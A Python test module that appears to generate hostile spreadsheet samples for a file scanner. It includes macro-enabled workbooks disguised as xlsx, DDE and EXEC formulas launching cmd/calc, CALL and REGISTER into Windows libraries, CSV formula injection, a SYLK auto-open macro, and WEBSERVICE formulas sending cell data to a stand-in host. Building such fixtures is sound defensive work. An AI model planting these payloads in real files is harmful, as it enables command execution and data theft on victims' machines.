"""Workbooks that run, fetch or carry something (faults.md S3, S4, S5)."""

from tests.hostile.bases import (
    BOOK,
    BOOK_RELS,
    SHEET,
    TYPES,
    book,
    related,
    relations,
    repack,
    swap,
    typed,
)
from tests.hostile.catalogue import Family

EXCEL = Family("excel")
_XLSX = "data.xlsx"
_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_MS = "http://schemas.microsoft.com/office/2006/relationships"
_SPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _main(content_type: str) -> bytes:
    return repack(book(), change={TYPES: swap(_MAIN, content_type)})


def _formula(text: str) -> bytes:
    return repack(book(), change={SHEET: swap("<f>B1*2</f>", f"<f>{text}</f>")})


EXCEL.each(
    "H10",
    _XLSX,
    [
        ("macros renamed to xlsx", lambda: _main(
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
        ("a binary workbook renamed", lambda: _main(
            "application/vnd.ms-excel.sheet.binary.macroEnabled.main")),
        ("a template with macros renamed", lambda: _main(
            "application/vnd.ms-excel.template.macroEnabled.main+xml")),
        ("an add-in renamed", lambda: _main(
            "application/vnd.ms-excel.addin.macroEnabled.main+xml")),
        ("vba that nothing names", lambda: repack(book(), add={"xl/vbaProject.bin": b"x"})),
        ("a sheet of macros", lambda: repack(
            book(),
            change={BOOK_RELS: related("", "macrosheets/sheet1.xml", full=f"{_MS}/xlMacrosheet")},
            add={"xl/macrosheets/sheet1.xml": b"<xm:macrosheet xmlns:xm='a'/>"})),
        ("a sheet of macros under another name", lambda: repack(
            book(),
            change={BOOK_RELS: related("", "worksheets/m.xml", full=f"{_MS}/xlMacrosheet")},
            add={"xl/worksheets/m.xml": b"<x/>"})),
        ("a sheet of macros by its content type", lambda: repack(
            book(),
            change={TYPES: typed("xl/worksheets/m.xml", "application/vnd.ms-excel.macrosheet+xml")},
            add={"xl/worksheets/m.xml": b"<x/>"})),
        ("a dialog sheet", lambda: repack(
            book(),
            change={BOOK_RELS: related("dialogsheet", "dialogsheets/sheet1.xml")},
            add={"xl/dialogsheets/sheet1.xml": b"<x/>"})),
    ],
)  # fmt: skip

EXCEL.each(
    "H11",
    _XLSX,
    [
        ("dde formula", lambda: _formula("cmd|'/C calc'!A0")),
        ("dde formula to excel", lambda: _formula("MSEXCEL|'..\\..\\cmd.exe'!A0")),
        ("dde formula in references", lambda: _formula("cmd&#124;'/C calc'&#33;A0")),
        ("dde function of libreoffice", lambda: _formula('DDE("soffice";"a";"b")')),
        ("dde in a sheet that lies elsewhere", lambda: repack(book(), add={
            "lain/lembar.xml": f"<worksheet xmlns='{_SPACE}'><f>cmd|'/C calc'!A0</f></worksheet>"
            .encode()})),
        ("a call into a library", lambda: _formula('CALL("urlmon","URLDownloadToFileA","JJ")')),
        ("a register of a library", lambda: _formula('REGISTER("kernel32","WinExec","JC")')),
        ("an exec that macros know", lambda: _formula('EXEC("calc")')),
        ("dde in a name", lambda: repack(book(), change={BOOK: _named})),
        ("a link by dde", lambda: repack(
            book(),
            change={BOOK_RELS: related("externalLink", "externalLinks/externalLink1.xml")},
            add={"xl/externalLinks/externalLink1.xml": (
                f'<externalLink xmlns="{_SPACE}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
                "</externalLink>").encode()})),
    ],
)  # fmt: skip


def _named(content: bytes) -> bytes:
    name = "<definedNames><definedName name='a'>cmd|'/c calc'!A0</definedName></definedNames>"
    return content.replace(b"<calcPr", f"{name}<calcPr".encode(), 1)


EXCEL.each(
    "H12",
    _XLSX,
    [
        ("a formula that asks the web", lambda: _formula(
            '_xlfn.WEBSERVICE("http://192.0.2.1/"&amp;A1)')),
        ("a formula that shows a web picture", lambda: _formula('_xlfn.IMAGE("http://192.0.2.1/")')),
        ("a formula that asks a server", lambda: _formula('RTD("a.b",,"c")')),
        ("another workbook", lambda: repack(
            book(),
            change={BOOK_RELS: related("externalLink", "externalLinks/externalLink1.xml")},
            add={
                "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
                "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                    "externalLinkPath", "file://192.0.2.1/a.xlsx", external=True),
            })),
        ("a connection to a database", lambda: repack(
            book(),
            change={BOOK_RELS: related("connections", "connections.xml")},
            add={"xl/connections.xml": b"<connections/>"})),
        ("a table asked from the web", lambda: repack(
            book(),
            change={},
            add={"xl/worksheets/_rels/sheet1.xml.rels": relations(
                "queryTable", "../queryTables/queryTable1.xml"),
                "xl/queryTables/queryTable1.xml": b"<queryTable/>"})),
        ("a picture from elsewhere", lambda: repack(
            book(), add={"xl/drawings/_rels/drawing1.xml.rels": relations(
                "image", "http://192.0.2.1/a.png", external=True)})),
        ("a webhook in a link of a cell", lambda: repack(
            book(), add={"xl/worksheets/_rels/sheet1.xml.rels": relations(
                "hyperlink", "file://192.0.2.1/a", external=True)})),
    ],
)  # fmt: skip


@EXCEL.trick("H13", _XLSX)
def an_ole_object():
    return repack(
        book(),
        add={
            "xl/worksheets/_rels/sheet1.xml.rels": relations(
                "oleObject", "../embeddings/oleObject1.bin"
            ),
            "xl/embeddings/oleObject1.bin": bytes.fromhex("D0CF11E0A1B11AE1") + bytes(600),
        },
    )


@EXCEL.trick("H14", _XLSX)
def an_activex_control():
    return repack(
        book(),
        add={
            "xl/worksheets/_rels/sheet1.xml.rels": relations("control", "../activeX/activeX1.xml"),
            "xl/activeX/activeX1.xml": b"<ax/>",
        },
    )


@EXCEL.trick("H11", "data.csv")
def a_table_of_text_that_runs_a_program():
    return b"Nama;Nilai\r\nA;=cmd|' /C calc'!A0\r\n"


@EXCEL.trick("H11", "data.csv")
def a_table_of_text_that_hides_it_behind_a_sign():
    return b"Nama,Nilai\r\nA,\"@SUM(1+1)*cmd|' /C calc'!A0\"\r\n"


@EXCEL.trick("H12", "data.csv")
def a_table_of_text_that_asks_the_web():
    return b'Nama,Nilai\r\nA,"=WEBSERVICE(""http://192.0.2.1/""&A1)"\r\n'


@EXCEL.trick("H01", "data.slk")
def a_sylk_sheet():
    return b'ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;EEXEC("calc")\nE\n'
